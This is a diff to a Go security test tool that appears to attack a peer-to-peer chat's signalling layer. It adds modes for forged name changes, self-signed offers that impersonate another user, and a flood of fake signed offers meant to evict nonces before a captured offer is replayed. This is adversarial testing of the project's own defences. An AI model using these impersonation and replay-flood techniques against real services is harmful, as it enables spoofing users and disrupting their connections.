@@ -21,6 +21,13 @@ import (
 //	            was captured
 //	unload      a forged unload in alice's name, then a forged nameChange
 //	            {oldName: alice, newName: alice(evil)}
+//	namechange  only the forged nameChange {oldName: alice, newName: alice(evil)}
+//	selfsigned  an RTCOffer in alice's full name signed with our own key (and carrying it)
+//	floodreplay -flood ICE restart offers to bob under made-up names, each signed with our
+//	            own key (cheap for bob: no connection to restart, but each signature
+//	            verifies against the key it carries), at -rate per second; then, after a
+//	            barrier, alice's captured RTCOffer byte for byte (a receiver that keeps one
+//	            table of nonces for everyone has forgotten it by then)
 //
 // then runs a barrier (bob's presence reply to our probe: bob's receive loop handled the
 // forgery) and emits "sent". Summary: whether bob answered the forged offer and whether
@@ -33,17 +40,15 @@ func runForge(ctx context.Context, args []string, ctl *control) error {
 	fs.StringVar(&from, "from", "alice", "bare name of the honest peer we forge")
 	fs.StringVar(&kind, "kind", "offer", "offer, replay or unload")
 	fs.DurationVar(&replayAfter, "replay-after", 3*time.Second, "replay: the least age of the captured offer")
-	ctx, cancel := parse(ctx, fs, &c, args)
-	defer cancel()
-	id, err := keys.Generate("mallory")
+	var flood int
+	var rate float64
+	fs.IntVar(&flood, "flood", 4600, "floodreplay: made-up offers before the replay")
+	fs.Float64Var(&rate, "rate", 600, "floodreplay: made-up offers per second")
+	ctx, r, id, done, err := parseAttack(ctx, fs, &c, args)
 	if err != nil {
 		return err
 	}
-	r, err := dialRoom(ctx, c.broker, c.room, "mallory("+randHex(2)+")", id.PublicJWK)
-	if err != nil {
-		return err
-	}
-	defer r.close()
+	defer done()
 
 	type capture struct {
 		raw    []byte
@@ -125,9 +130,62 @@ func runForge(ctx context.Context, args []string, ctl *control) error {
 		if err := r.publishRaw(ctx, cp.raw); err != nil {
 			return err
 		}
-	case "unload":
-		if err := r.publish(ctx, cp.sender, subUnload, "disconnecting"); err != nil {
+	case "selfsigned":
+		sdp, err := deadSDP(ctx)
+		if err != nil {
 			return err
+		}
+		role := ""
+		if cp.info.RTChat != nil {
+			role = cp.info.RTChat.Role
+		}
+		d, err := signedOffer(id, r.topic, cp.sender, cp.target, role, sdp, false)
+		if err != nil {
+			return err
+		}
+		if err := r.publish(ctx, cp.sender, subOffer, d); err != nil {
+			return err
+		}
+	case "floodreplay":
+		sdp, err := deadSDP(ctx)
+		if err != nil {
+			return err
+		}
+		start := time.Now()
+		tick := time.NewTicker(time.Duration(float64(time.Second) / rate))
+		for i := range flood {
+			name := "x" + randHex(4) + "(" + randHex(2) + ")"
+			d, err := signedOffer(id, r.topic, name, cp.target, "ask", sdp, true)
+			if err != nil {
+				return err
+			}
+			b, err := encode(name, subOffer, d, r.nextStamp())
+			if err != nil {
+				return err
+			}
+			r.publishAsync(b)
+			if i%500 == 0 {
+				out.emit("flooding", map[string]any{"sent": i})
+			}
+			select {
+			case <-tick.C:
+			case <-ctx.Done():
+				return ctx.Err()
+			}
+		}
+		tick.Stop()
+		summary["flood"] = flood
+		summary["flood_ms"] = time.Since(start).Milliseconds()
+		summary["flood_barrier"] = r.barrier(ctx, cp.target, 30*time.Second)
+		summary["age_ms"] = time.Since(cp.at).Milliseconds()
+		if err := r.publishRaw(ctx, cp.raw); err != nil {
+			return err
+		}
+	case "unload", "namechange":
+		if kind == "unload" {
+			if err := r.publish(ctx, cp.sender, subUnload, "disconnecting"); err != nil {
+				return err
+			}
 		}
 		if err := r.publish(ctx, keys.BareName(cp.sender)+"(evil)", subNameChange,
 			map[string]string{"oldName": cp.sender, "newName": keys.BareName(cp.sender) + "(evil)"}); err != nil {
